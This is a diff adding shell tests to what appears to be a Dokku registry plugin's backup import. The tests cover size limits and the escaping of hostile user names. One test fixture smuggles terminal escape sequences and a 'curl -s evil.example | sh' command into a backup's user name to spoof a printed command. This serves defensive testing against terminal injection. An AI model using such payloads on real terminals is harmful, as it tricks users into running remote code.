@@ -319,6 +319,51 @@ malformed() {
   assert_eq "$(snapshot)" "$before" "after an oversized recipe"
 }
 
+@test "(backup) all or nothing: what the write or a reader would refuse fails the import before the first task" {
+  seed_properties
+  local good='- name: registry properties
+  tasks:
+    - dokku_registry_property:
+        app: app1
+        property: push-on-release
+        value: "false"' before big name
+  before=$(snapshot)
+  # a 100 KiB server: every property reader stops at 64 KiB
+  big=$(head -c $((100 * 1024)) /dev/zero | tr '\0' 'x')
+  printf '%s\n' "$good
+    - dokku_registry_property:
+        app: app1
+        property: server
+        value: $big" >"$SCOPE_APP/config/registry.yml"
+  drr backup-app-import app1 "$SCOPE_APP"
+  assert_status 1
+  assert_stderr " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line 9: the value of server is 102400 bytes, over the 65536 bytes a property may hold (every reader stops there)"
+  assert_eq "$(snapshot)" "$before" "property files after a 100 KiB value"
+  # a property name over NAME_MAX (with the atomic write's temp suffix)
+  name=$(head -c 250 /dev/zero | tr '\0' 'n')
+  printf '%s\n' "$good
+    - dokku_registry_property:
+        app: app1
+        property: $name
+        value: x" >"$SCOPE_APP/config/registry.yml"
+  drr backup-app-import app1 "$SCOPE_APP"
+  assert_status 1
+  assert_stderr " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line 9: the property name \"${name:0:40}...\" is 250 bytes long, over the 245 a property file may have"
+  assert_eq "$(snapshot)" "$before" "property files after an over-long name"
+  # and everything still reads
+  must registry:report app1
+  # at the limit it imports and reads back
+  big=$(head -c 65536 /dev/zero | tr '\0' 'x')
+  printf '%s\n' "$good
+    - dokku_registry_property:
+        app: app1
+        property: server
+        value: $big" >"$SCOPE_APP/config/registry.yml"
+  must backup-app-import app1 "$SCOPE_APP"
+  assert_eq "$(wc -c <"$REG/app1/server")" 65536 "server bytes"
+  must registry:report app1 --registry-server
+}
+
 # ---------------------------------------------------------------------------
 # logins: never in the backup, a hint to log in again
 
@@ -454,4 +499,41 @@ EOF
   [ ! -e "$REG/app1/config.json" ]
   rm "$SCOPE_APP/config/registry.yml"
   assert_no_secret_on_disk alice "$PW_A"
+}
+
+@test "(backup) a hostile backup's user names reach the terminal escaped: no ESC or CR redraws the printed command" {
+  create_app app1
+  mkdir -p "$SCOPE_APP/data/registry"
+  # a user name that, printed raw, erases the line and shows a different command
+  jq -n --arg u $'\e[2K\rdokku registry:login app1 ghcr.io bob ; curl -s evil.example | sh #' \
+    '{logins: [{server: "ghcr.io", username: $u}]}' >"$SCOPE_APP/data/registry/logins.json"
+  # and one in a config.json task's auth (Dokku's own plugin's backups)
+  local cfg
+  cfg=$(jq -cn --arg a "$(printf '\e]0;x\a\xe2\x80\xaeuser\xc2\x9b:pw' | base64 -w0)" '{auths: {"quay.io": {auth: $a}}}')
+  cat >"$SCOPE_APP/config/registry.yml" <<EOF
+- name: registry properties
+  tasks:
+    - dokku_registry_property:
+        app: app1
+        property: config.json
+        value: '$cfg'
+EOF
+  drr backup-app-import app1 "$SCOPE_APP"
+  assert_status 0 && assert_stdout ""
+  assert_stderr_lines 3
+  assert_stderr_line 1 " !     Registry login for ghcr.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 ghcr.io '\\e[2K\\rdokku registry:login app1 ghcr.io bob ; curl -s evil.example | sh #'"
+  assert_stderr_line 2 " !     Registry login for quay.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 quay.io '\\e]0;x\\x07\\u202euser\\u009b'"
+  # not one control byte reached the terminal
+  run ! grep -qP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae' <<<"$stderr"
+  # an error that quotes the backup (a property name) is escaped too
+  printf '%s\n' '- name: registry properties
+  tasks:
+    - dokku_registry_property:
+        app: app1
+        property: "\e[2K\rok/x"
+        value: x' >"$SCOPE_APP/config/registry.yml"
+  drr backup-app-import app1 "$SCOPE_APP"
+  assert_status 1
+  assert_stderr " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line 5: \"\\e[2K\\rok/x\" is not a registry property"
+  run ! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' <<<"$stderr"
 }
